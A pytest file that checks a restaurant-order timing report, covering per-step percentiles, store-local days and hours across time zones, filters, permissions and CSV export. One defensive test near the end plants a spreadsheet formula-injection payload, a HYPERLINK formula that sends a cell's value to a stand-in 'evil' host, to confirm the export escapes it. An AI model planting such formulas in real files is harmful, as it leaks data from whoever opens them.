"""Timing reports (contract §5) on a small hand-made history whose every figure is worked out
here, by hand, in the comments. The same tests run on SQLite and on PostgreSQL.

The history (report range 2026-11-20 .. 2026-11-21, store-local days; all times local):

Brooklyn Burgers (nyc, America/New_York, UTC-5 in November)
  n1 11-20 12:00 dx_delivery  completed  Ann  confirm 2, prep 10 (promised 12: 2 early),
                                              pickup wait 5, delivery 20        -> end to end 37
  n2 11-20 12:30 mx_fleet     completed  Bob  confirm 4, prep 20 (promised 15: 5 late),
                                              pickup wait 20, delivery 50       -> end to end 94
  n3 11-20 23:30 pickup       completed       confirm 6, prep 8 (no promise),
                                              customer pickup 10                -> end to end 24
     (04:30 UTC on 11-21, but it counts on New York's 11-20, hour 23)
  n4 11-21 09:00 dx_delivery  rejected after 3 min, "Store is currently closed"
  n5 11-21 09:10 dx_delivery  cancelled by the restaurant (onetablet), KITCHEN_BUSY; confirm 1
  n6 11-21 10:00 pickup       cancelled by staff:dana, OTHER, never confirmed
  n7 11-19 23:59 (04:59 UTC on 11-20: outside the range in New York) -- excluded
  n8 11-22 00:00 -- excluded
Berlin Doener (ber, Europe/Berlin, UTC+1)
  b1 11-20 00:30 dx_delivery  completed  Ann  confirm 1, prep 15 (promised 15: on time),
                                              pickup wait 10, delivery 30       -> end to end 56
     (23:30 UTC on 11-19, but Berlin's 11-20, hour 0)
  b2 11-21 18:00 mx_fleet     completed  Ann  confirm 8, prep 25 (promised 20: 5 late),
                                              pickup wait 16, delivery 46       -> end to end 95
  b3 11-21 18:20 pickup       completed       confirm 5, prep 45 (no promise),
                                              customer pickup 40                -> end to end 90
  b4 11-21 19:00 dx_delivery  rejected after 2 min, "Item unavailable"
  b5 11-21 19:30 dx_delivery  in_transit Bob  confirm 3, prep 10 (promised 10), pickup wait 12
Idle Kitchen (idle, UTC): no orders.

Overdue audit rows: confirmation n3, n6, b2 (and n7, outside the range); preparation b3
(+ escalated); courier_pickup n2, b2; customer_pickup b3; delivery n2, b2.

Percentiles are interpolated: with n sorted values, the p-th sits at 1 + (n-1)p.
"""
from __future__ import annotations

import csv
import io
from datetime import datetime, timedelta, timezone
from html.parser import HTMLParser
from zoneinfo import ZoneInfo

import pytest
from sqlalchemy import select

from app.extensions import db
from app.models import Courier, Order, OrderEvent, Store

RANGE = {"from": "2026-11-20", "to": "2026-11-21"}
ZONES = {"nyc": "America/New_York", "ber": "Europe/Berlin", "idle": "UTC"}


def _local(store: str, text: str) -> datetime:
    return datetime.fromisoformat(text).replace(tzinfo=ZoneInfo(ZONES[store])).astimezone(timezone.utc)


def _order(oid, store, local, kind, state, *, confirm=None, prep=None, promised=None, pickup=None,
           deliver=None, collect=None, ends=None, courier=None, **extra) -> Order:
    """Durations in minutes, each from the end of the step before."""
    minutes = lambda m: timedelta(minutes=m)  # noqa: E731
    created = _local(store, local)
    confirmed = created + minutes(confirm) if confirm is not None else None
    ready = confirmed + minutes(prep) if prep is not None else None
    in_transit = ready + minutes(pickup) if pickup is not None else None
    finished = None
    if deliver is not None:
        finished = in_transit + minutes(deliver)
    elif collect is not None:
        finished = ready + minutes(collect)
    elif ends is not None:
        finished = created + minutes(ends)
    return Order(id=oid, store_id=STORE_IDS[store], state=state, fulfillment_type=kind, payload={"id": oid},
                 payload_hash="x", created_at=created, state_changed_at=finished or created,
                 confirmed_at=confirmed, ready_at=ready, in_transit_at=in_transit, finished_at=finished,
                 prep_time=confirmed + minutes(promised) if promised is not None else None,
                 courier_id=COURIER_IDS.get(courier), **extra)


STORE_IDS = {"nyc": 1, "ber": 2, "idle": 3}
COURIER_IDS = {"Ann": 1, "Bob": 2}


def _overdue(order: Order, limit: str, start: datetime, after: int, escalated=False) -> OrderEvent:
    return OrderEvent(order_id=order.id, at=start + timedelta(minutes=after), actor="scheduler",
                      event="overdue_escalated" if escalated else "overdue",
                      from_state=order.state, to_state=order.state, detail={"limit": limit})


@pytest.fixture
def history(app):
    with app.app_context():
        db.session.add_all([
            Store(id=1, merchant_supplied_id="nyc", name="Brooklyn Burgers", timezone=ZONES["nyc"]),
            Store(id=2, merchant_supplied_id="ber", name="Berlin Doener", timezone=ZONES["ber"]),
            Store(id=3, merchant_supplied_id="idle", name="Idle Kitchen", timezone=ZONES["idle"]),
            Courier(id=1, name="Ann Lee"), Courier(id=2, name="Bob Ray"),
        ])
        db.session.flush()
        o = {
            "n1": _order("n1", "nyc", "2026-11-20 12:00", "dx_delivery", "completed", confirm=2, prep=10,
                         promised=12, pickup=5, deliver=20, courier="Ann"),
            "n2": _order("n2", "nyc", "2026-11-20 12:30", "mx_fleet_delivery", "completed", confirm=4,
                         prep=20, promised=15, pickup=20, deliver=50, courier="Bob"),
            "n3": _order("n3", "nyc", "2026-11-20 23:30", "pickup", "completed", confirm=6, prep=8, collect=10),
            "n4": _order("n4", "nyc", "2026-11-21 09:00", "dx_delivery", "rejected", ends=3,
                         failure_reason="Store is currently closed"),
            "n5": _order("n5", "nyc", "2026-11-21 09:10", "dx_delivery", "cancelled", confirm=1, ends=5,
                         cancel_reason="KITCHEN_BUSY", cancelled_by="onetablet"),
            "n6": _order("n6", "nyc", "2026-11-21 10:00", "pickup", "cancelled", ends=7,
                         cancel_reason="OTHER", cancelled_by="staff:dana"),
            "n7": _order("n7", "nyc", "2026-11-19 23:59", "pickup", "rejected", ends=6, failure_reason="late"),
            "n8": _order("n8", "nyc", "2026-11-22 00:00", "pickup", "rejected", ends=1, failure_reason="late"),
            "b1": _order("b1", "ber", "2026-11-20 00:30", "dx_delivery", "completed", confirm=1, prep=15,
                         promised=15, pickup=10, deliver=30, courier="Ann"),
            "b2": _order("b2", "ber", "2026-11-21 18:00", "mx_fleet_delivery", "completed", confirm=8,
                         prep=25, promised=20, pickup=16, deliver=46, courier="Ann"),
            "b3": _order("b3", "ber", "2026-11-21 18:20", "pickup", "completed", confirm=5, prep=45, collect=40),
            "b4": _order("b4", "ber", "2026-11-21 19:00", "dx_delivery", "rejected", ends=2,
                         failure_reason="Item unavailable"),
            "b5": _order("b5", "ber", "2026-11-21 19:30", "dx_delivery", "in_transit", confirm=3, prep=10,
                         promised=10, pickup=12, courier="Bob"),
        }
        db.session.add_all(o.values())
        db.session.flush()
        db.session.add_all([
            _overdue(o["n3"], "confirmation", o["n3"].created_at, 5),
            _overdue(o["n6"], "confirmation", o["n6"].created_at, 5),
            _overdue(o["b2"], "confirmation", o["b2"].created_at, 5),
            _overdue(o["n7"], "confirmation", o["n7"].created_at, 5),  # outside the range
            _overdue(o["b3"], "preparation", o["b3"].confirmed_at, 20),
            _overdue(o["b3"], "preparation", o["b3"].confirmed_at, 40, escalated=True),
            _overdue(o["n2"], "courier_pickup", o["n2"].ready_at, 15),
            _overdue(o["b2"], "courier_pickup", o["b2"].ready_at, 15),
            _overdue(o["b3"], "customer_pickup", o["b3"].ready_at, 30),
            _overdue(o["n2"], "delivery", o["n2"].in_transit_at, 45),
            _overdue(o["b2"], "delivery", o["b2"].in_transit_at, 45),
        ])
        db.session.commit()


@pytest.fixture
def manager(auth):
    auth.login("maya", role="manager")


class _Tables(HTMLParser):
    """The report page's tables as {data-table key: [[cell text]]}, header row first."""

    def __init__(self):
        super().__init__()
        self.tables, self.key, self.row, self.cell = {}, None, None, None

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if tag == "section" and "data-table" in attrs:
            self.key = attrs["data-table"]
            self.tables[self.key] = []
        elif tag == "tr" and self.key:
            self.row = []
        elif tag in ("td", "th") and self.row is not None:
            self.cell = "" if attrs.get("class") != "none" else None

    def handle_data(self, data):
        if self.cell is not None:
            self.cell += data

    def handle_endtag(self, tag):
        if tag in ("td", "th") and self.row is not None and self.cell is not None:
            self.row.append(self.cell.strip())
            self.cell = None
        elif tag == "tr" and self.row is not None:
            if self.row:
                self.tables[self.key].append(self.row)
            self.row = None
        elif tag == "section":
            self.key = None


def page_tables(client, **args) -> dict[str, list[list[str]]]:
    response = client.get("/reports", query_string=args)
    assert response.status_code == 200, response.get_data(as_text=True)[:2000]
    parser = _Tables()
    parser.feed(response.get_data(as_text=True))
    return parser.tables


def csv_tables(client, **args) -> dict[str, list[list[str]]]:
    """The CSV's blocks as {title: [[cell]]}, header row first."""
    response = client.get("/reports.csv", query_string=args)
    assert response.status_code == 200 and response.mimetype == "text/csv"
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True))))
    blocks, title = {}, None
    for row in rows[1:]:
        if not row:
            title = None
        elif title is None:
            title = row[0]
            blocks[title] = []
        else:
            blocks[title].append(row)
    return blocks


def body(table):
    return table[1:]


def column(table, label):
    index = table[0].index(label)
    return [row[index] for row in table[1:]]


# --- every figure, worked out ---------------------------------------------------------


def test_summary_and_final_states(client, manager, history):
    t = page_tables(client, **RANGE)
    # 11 orders in range: completed n1 n2 n3 b1 b2 b3 (6), rejected n4 b4 (2), cancelled n5 n6 (2),
    # in_transit b5 (1). Rates: 2/11 = 18.2%.
    assert body(t["summary"]) == [["11", "6", "18.2%", "18.2%"]]
    assert body(t["states"]) == [
        ["Submitted", "0", "0.0%"], ["Confirmed", "0", "0.0%"], ["Rejected", "2", "18.2%"],
        ["Ready", "0", "0.0%"], ["In transit", "1", "9.1%"],  # 1/11
        ["Completed", "6", "54.5%"],  # 6/11
        ["Cancelled", "2", "18.2%"],
    ]


def test_rejections_and_cancellations_by_reason_and_by_who(client, manager, history):
    t = page_tables(client, **RANGE)
    # One each: 1/11 = 9.1% of all orders. Ties sort by reason.
    assert body(t["rejections"]) == [["Item unavailable", "1", "9.1%"], ["Store is currently closed", "1", "9.1%"]]
    # n5 by the restaurant through OneTablet, n6 by staff:dana.
    assert body(t["cancelled_by"]) == [["restaurant", "1", "9.1%"], ["staff", "1", "9.1%"]]
    assert body(t["cancellations"]) == [["restaurant", "Kitchen busy", "1", "9.1%"],
                                        ["staff", "Other", "1", "9.1%"]]


def test_each_step_count_median_p90_max_and_share_within_the_guide(client, manager, history):
    t = page_tables(client, **RANGE)
    rows = {row[0]: row[2:] for row in body(t["steps"])}
    # Confirm: 1 1 2 3 4 5 6 8 (n5 b1 n1 b5 n2 b3 n3 b2), n=8. Median at 4.5: (3+4)/2 = 3.5;
    # p90 at 1+7*.9 = 7.3: 6 + .3*(8-6) = 6.6; max 8; within 5 min: six of 8 = 75%.
    assert rows["Time to confirm"] == ["8", "3.5", "6.6", "8.0", "≤ 5 min", "75.0%"]
    # Preparation: 8 10 10 15 20 25 45, n=7. Median 15; p90 at 6.4: 25 + .4*20 = 33; max 45.
    # Within (prep_time + 5 grace, or 20 without): all but b3 (45 > 20): 6/7 = 85.7%.
    assert rows["Preparation"] == ["7", "15.0", "33.0", "45.0",
                                   "by prep_time + 5 min (≤ 20 min without prep_time)", "85.7%"]
    # Lateness vs prep_time (n1 -2, n2 +5, b1 0, b2 +5, b5 0): -2 0 0 5 5, median 0;
    # p90 at 4.6: 5; max 5; ready by prep_time: 3/5 = 60%.
    assert rows["Ready vs promised prep_time"] == ["5", "0.0", "5.0", "5.0", "by prep_time", "60.0%"]
    # Courier pickup (delivery orders that left): 5 10 12 16 20. Median 12; p90 at 4.6:
    # 16 + .6*4 = 18.4; max 20; within 15: 3/5 = 60%.
    assert rows["Courier pickup wait"] == ["5", "12.0", "18.4", "20.0", "≤ 15 min", "60.0%"]
    # Customer pickup (completed pickups): 10 40. Median 25; p90 at 1.9: 10 + .9*30 = 37;
    # within 30: 1/2.
    assert rows["Customer pickup wait"] == ["2", "25.0", "37.0", "40.0", "≤ 30 min", "50.0%"]
    # Delivery: 20 30 46 50. Median (30+46)/2 = 38; p90 at 3.7: 46 + .7*4 = 48.8; within 45: 2/4.
    assert rows["Delivery"] == ["4", "38.0", "48.8", "50.0", "≤ 45 min", "50.0%"]
    # End to end: 24 37 56 90 94 95. Median (56+90)/2 = 73; p90 at 5.5: (94+95)/2 = 94.5; no guide.
    assert rows["End to end"] == ["6", "73.0", "94.5", "95.0", "", ""]


def test_end_to_end_distribution_in_five_minute_buckets(client, manager, history):
    t = page_tables(client, **RANGE)
    counts = dict(body(t["distribution"]))
    # 24 -> 20–25, 37 -> 35–40, 56 -> 55–60, 90 and 94 -> 90–95, 95 -> 95–100.
    assert counts.pop("20–25 min") == "1" and counts.pop("35–40 min") == "1"
    assert counts.pop("55–60 min") == "1" and counts.pop("90–95 min") == "2"
    assert counts.pop("95–100 min") == "1"
    assert set(counts.values()) == {"0"} and len(counts) == 15  # 0–5 .. 85–90 less the four above


def test_by_day_in_store_local_days(client, manager, history):
    t = page_tables(client, **RANGE)
    # 11-20: n1 n2 n3 (23:30 New York) b1 (00:30 Berlin), all completed. Confirm 1 2 4 6:
    # median 3, within 5 min 3/4; end to end 24 37 56 94: median (37+56)/2 = 46.5.
    # 11-21: n4 n5 n6 b2 b3 b4 b5; completed b2 b3; rejected n4 b4; cancelled n5 n6.
    # Confirm 1 3 5 8: median 4, within 3/4; end to end 90 95: 92.5.
    assert body(t["days"]) == [
        ["2026-11-20", "4", "4", "0", "0", "3.0", "75.0%", "46.5"],
        ["2026-11-21", "7", "2", "2", "2", "4.0", "75.0%", "92.5"],
    ]


def test_by_hour_of_day_in_store_local_hours(client, manager, history):
    t = page_tables(client, **RANGE)
    hours = {row[0]: row[1:] for row in body(t["hours"])}
    assert len(hours) == 24
    assert hours["00:00"] == ["1", "1", "1.0", "100.0%", "56.0"]  # b1
    assert hours["09:00"] == ["2", "0", "1.0", "100.0%", ""]  # n4 (rejected), n5 (confirm 1)
    assert hours["10:00"] == ["1", "0", "", "", ""]  # n6, never confirmed
    assert hours["12:00"] == ["2", "2", "3.0", "100.0%", "65.5"]  # n1 n2: (2+4)/2, (37+94)/2
    assert hours["18:00"] == ["2", "2", "6.5", "50.0%", "92.5"]  # b2 b3: (8+5)/2, (95+90)/2
    assert hours["19:00"] == ["2", "0", "3.0", "100.0%", ""]  # b4 (rejected), b5
    assert hours["23:00"] == ["1", "1", "6.0", "0.0%", "24.0"]  # n3
    others = [v for k, v in hours.items() if k not in ("00:00", "09:00", "10:00", "12:00", "18:00", "19:00", "23:00")]
    assert all(v == ["0", "0", "", "", ""] for v in others)


def test_per_store(client, manager, history):
    t = page_tables(client, **RANGE)
    assert body(t["stores"]) == [
        # b1..b5: 3 completed, 1 rejected (20%), none cancelled. Confirm 1 3 5 8 -> 4;
        # prep 10 15 25 45 -> 20; ready by prep_time: b1 0, b2 +5, b5 0 -> 2/3; e2e 56 90 95 -> 90.
        ["Berlin Doener", "Europe/Berlin", "5", "3", "20.0%", "0.0%", "4.0", "20.0", "66.7%", "90.0"],
        # n1..n6: 3 completed, 1 rejected (1/6), 2 cancelled (2/6). Confirm 1 2 4 6 -> 3;
        # prep 8 10 20 -> 10; ready by prep_time: n1 -2, n2 +5 -> 1/2; e2e 24 37 94 -> 37.
        ["Brooklyn Burgers", "America/New_York", "6", "3", "16.7%", "33.3%", "3.0", "10.0", "50.0%", "37.0"],
        ["Idle Kitchen", "UTC", "0", "0", "", "", "", "", "", ""],
    ]


def test_per_courier_deliveries_and_median_delivery_time(client, manager, history):
    t = page_tables(client, **RANGE)
    assert body(t["couriers"]) == [
        # Ann: n1 20, b1 30, b2 46. Median 30; p90 at 2.8: 30 + .8*16 = 42.8; within 45: 2/3.
        ["Ann Lee", "3", "30.0", "42.8", "66.7%"],
        # Bob: n2 50 (b5 is still in transit).
        ["Bob Ray", "1", "50.0", "50.0", "0.0%"],
    ]


def test_overdue_incidents_by_limit_from_the_audit_trail(client, manager, history):
    t = page_tables(client, **RANGE)
    assert body(t["overdue"]) == [
        ["Confirmation", "3", "0", "3"],  # n3 n6 b2 (n7 is outside the range)
        ["Preparation", "1", "1", "1"],  # b3, escalated at twice the limit
        ["Courier pickup", "2", "0", "2"],  # n2 b2
        ["Customer pickup", "1", "0", "1"],  # b3
        ["Delivery", "2", "0", "2"],  # n2 b2
    ]


def test_csv_holds_exactly_the_rows_shown(client, manager, history):
    for args in (RANGE, {**RANGE, "store": "nyc"}, {**RANGE, "fulfillment": "pickup"}):
        shown = page_tables(client, **args)
        exported = csv_tables(client, **args)
        titles = {key: title for key, title in _titles(client, args).items()}
        assert len(exported) == len(shown)
        for key, rows in shown.items():
            assert exported[titles[key]] == rows, key


def _titles(client, args) -> dict[str, str]:
    import re

    page = client.get("/reports", query_string=args).get_data(as_text=True)
    return dict(re.findall(r'data-table="([^"]+)">\s*<h2>([^<]+)</h2>', page))


def test_the_guide_timings_come_from_the_settings(app, client, manager, history):
    app.config["OVERDUE_CONFIRMATION_MINUTES"] = 2
    rows = {row[0]: row[2:] for row in body(page_tables(client, **RANGE)["steps"])}
    # Confirm 1 1 2 3 4 5 6 8: within 2 minutes 3/8 = 37.5%.
    assert rows["Time to confirm"][-2:] == ["≤ 2 min", "37.5%"]


# --- filters --------------------------------------------------------------------------


def test_an_order_at_2330_in_new_york_counts_on_that_local_day(client, manager, history):
    # n3 was submitted 2026-11-20 23:30 New York time = 2026-11-21 04:30 UTC.
    on_the_20th = page_tables(client, **{"from": "2026-11-20", "to": "2026-11-20", "store": "nyc"})
    assert body(on_the_20th["summary"])[0][0] == "3"  # n1 n2 n3; not n7 (11-19 23:59 local)
    assert column(on_the_20th["hours"], "Orders")[23] == "1"
    on_the_21st = page_tables(client, **{"from": "2026-11-21", "to": "2026-11-21", "store": "nyc"})
    assert body(on_the_21st["summary"])[0][0] == "3"  # n4 n5 n6; n3 is not here
    assert body(on_the_21st["days"]) == [["2026-11-21", "3", "0", "1", "2", "1.0", "100.0%", ""]]


def test_filters_by_store_fulfillment_and_courier(client, manager, history):
    assert body(page_tables(client, **RANGE, store="ber")["summary"]) == [["5", "3", "20.0%", "0.0%"]]
    # Pickups: n3 n6 b3; n6 cancelled.
    assert body(page_tables(client, **RANGE, fulfillment="pickup")["summary"]) == [["3", "2", "0.0%", "33.3%"]]
    # Ann carried n1 b1 b2, all completed.
    ann = page_tables(client, **RANGE, courier="1")
    assert body(ann["summary"]) == [["3", "3", "0.0%", "0.0%"]]
    assert body(ann["couriers"]) == [["Ann Lee", "3", "30.0", "42.8", "66.7%"]]


def test_filters_stay_in_the_url_of_the_form_and_the_csv_link(client, manager, history):
    page = client.get("/reports", query_string={**RANGE, "store": "ber", "fulfillment": "dx_delivery",
                                                "courier": "2"}).get_data(as_text=True)
    assert 'method="get"' in page
    assert "/reports.csv?from=2026-11-20&amp;to=2026-11-21&amp;store=ber&amp;fulfillment=dx_delivery&amp;courier=2" in page
    assert '<option value="ber" selected>' in page.replace("\n", "").replace("  ", "")


def test_default_range_is_the_last_seven_local_days(app, client, manager, history, monkeypatch):
    from app.infra import clock

    # 02:00 UTC on 11-22 is still 11-21 in New York (the first store by name is Berlin: 03:00 on 11-22).
    monkeypatch.setattr(clock, "now", lambda: datetime(2026, 11, 22, 2, 0, tzinfo=timezone.utc))
    days = column(page_tables(client, store="nyc")["days"], "Day")
    assert days[0] == "2026-11-15" and days[-1] == "2026-11-21" and len(days) == 7


@pytest.mark.parametrize("args, message", [
    ({"from": "2026-13-01"}, "is not a date"),
    ({"to": "yesterday"}, "is not a date"),
    ({"from": "2026-11-21", "to": "2026-11-20"}, "is after"),
    ({"store": "nowhere"}, "Unknown store"),
    ({"courier": "999"}, "Unknown courier"),
    ({"courier": "x" * 40}, "Unknown courier"),
    ({"fulfillment": "drone"}, "Unknown fulfillment type"),
    ({"from": "2020-01-01", "to": "2026-01-01"}, "at most 366 days"),
    # a day past Python's dates once was a 500 (its window's end overflowed)
    ({"to": "9999-12-31"}, "out of range"),
    ({"from": "0001-01-01", "to": "0001-01-02"}, "out of range"),
])
def test_bad_filters_get_a_clear_message_not_a_500(client, manager, history, args, message):
    response = client.get("/reports", query_string=args)
    assert response.status_code == 400 and message in response.get_data(as_text=True)
    exported = client.get("/reports.csv", query_string=args)
    assert exported.status_code == 400 and message in exported.get_data(as_text=True)


@pytest.mark.parametrize("args", [{"from": "2025-01-01", "to": "2025-01-07"}, {**RANGE, "store": "idle"}])
def test_an_empty_range_or_a_store_without_orders_says_so(client, manager, history, args):
    response = client.get("/reports", query_string=args)
    assert response.status_code == 200 and "No orders match these filters" in response.get_data(as_text=True)
    assert client.get("/reports.csv", query_string=args).status_code == 200


def test_an_empty_database_still_answers(client, manager):
    response = client.get("/reports")
    assert response.status_code == 200 and "No orders match these filters" in response.get_data(as_text=True)


@pytest.mark.parametrize("path", ["/reports", "/reports.csv"])
def test_a_dispatcher_gets_403(client, auth, path):
    auth.login("dan", role="dispatcher")
    assert client.get(path).status_code == 403


@pytest.mark.parametrize("path", ["/reports", "/reports.csv"])
def test_anonymous_people_are_sent_to_log_in(client, path):
    response = client.get(path)
    assert response.status_code == 302 and "/login" in response.headers["Location"]


def test_charts_are_drawn_from_a_json_block_with_no_inline_script(client, manager, history):
    import json
    import re

    page = client.get("/reports", query_string=RANGE).get_data(as_text=True)
    assert "chart.js-4.6.1/chart.umd.min.js" in page and "js/reports.js" in page
    scripts = re.findall(r"<script([^>]*)>(.*?)</script>", page, re.S)
    inline = [attrs for attrs, content in scripts if content.strip() and 'type="application/json"' not in attrs]
    assert inline == []
    charts = json.loads(re.search(r'id="report-charts">(.*?)</script>', page, re.S).group(1))
    canvases = re.findall(r'data-chart="([^"]+)"', page)
    assert set(canvases) == set(charts) and {"steps", "days", "hours", "stores", "couriers"} <= set(charts)
    # The by-day chart plots the table's figures: orders as bars, median end to end as a line.
    assert charts["days"]["labels"] == ["2026-11-20", "2026-11-21"]
    assert charts["days"]["datasets"][0]["data"] == [4, 7]
    assert charts["days"]["datasets"][1] == {"label": "Median end to end (min)", "type": "line",
                                             "yAxisID": "y2", "kind": "minutes", "data": [46.5, 92.5]}
    assert charts["days"]["datasets"][0]["kind"] == "count"  # whole-number ticks (reports.js)


def test_local_days_and_hours_follow_daylight_saving_time(app, client, manager):
    # New York leaves daylight saving time at 2026-11-01 02:00 local (06:00 UTC): UTC-4 before,
    # UTC-5 after. d1 at 2026-10-31 23:30 EDT is 03:30 UTC on 11-01; d2 at 2026-11-01 23:30 EST
    # is 04:30 UTC on 11-02. Each counts on its own local day, in local hour 23.
    with app.app_context():
        db.session.add(Store(id=1, merchant_supplied_id="nyc", name="Brooklyn Burgers", timezone=ZONES["nyc"]))
        db.session.add_all([_order("d1", "nyc", "2026-10-31 23:30", "pickup", "rejected", ends=1),
                            _order("d2", "nyc", "2026-11-01 23:30", "pickup", "rejected", ends=1)])
        db.session.commit()
    t = page_tables(client, **{"from": "2026-10-31", "to": "2026-11-01"})
    assert [row[:2] for row in body(t["days"])] == [["2026-10-31", "1"], ["2026-11-01", "1"]]
    assert column(t["hours"], "Orders")[23] == "2" and column(t["hours"], "Orders").count("0") == 23


def test_a_long_rejection_reason_is_reported_whole(app, client, manager):
    reason = "The kitchen says: " + "no " * 150  # longer than any String(255)
    with app.app_context():
        db.session.add(Store(id=1, merchant_supplied_id="nyc", name="Brooklyn Burgers", timezone=ZONES["nyc"]))
        db.session.add(_order("r1", "nyc", "2026-11-20 12:00", "pickup", "rejected", ends=2, failure_reason=reason))
        db.session.commit()
    assert body(page_tables(client, **RANGE)["rejections"]) == [[reason.strip(), "1", "100.0%"]]


def test_an_ungrouped_count_counts_every_order_in_the_report(app, history):
    from app.reports.filters import parse
    from app.reports.queries import Guide, Report

    with app.test_request_context():
        with Report(parse(RANGE), Guide.from_config(app.config)) as report:
            assert report.stats(["end_to_end"])[None]["orders"] == 11  # as the summary says
        db.session.rollback()


def test_the_csv_opens_in_a_spreadsheet_as_text_not_formulas(app, client, manager, history):
    """UTF-8 announced (a byte-order mark: "—" and "≤" read right), a name that is a formula
    kept as text, and a file name that tells one store's export from another's."""
    with app.app_context():
        store = db.session.execute(select(Store).filter_by(merchant_supplied_id="nyc")).scalar_one()
        store.name = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
        db.session.commit()
    response = client.get("/reports.csv", query_string={**RANGE, "store": "nyc", "fulfillment": "pickup"})
    raw = response.get_data(as_text=True)
    assert raw.startswith("\ufeffTiming report")
    rows = list(csv.reader(io.StringIO(raw)))
    assert "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")" in [cell for row in rows for cell in row]
    assert not any(cell.startswith("=") for row in rows for cell in row)
    assert response.headers["Content-Disposition"] == (
        f'attachment; filename="passline-report-{RANGE["from"]}-{RANGE["to"]}-nyc-pickup.csv"')
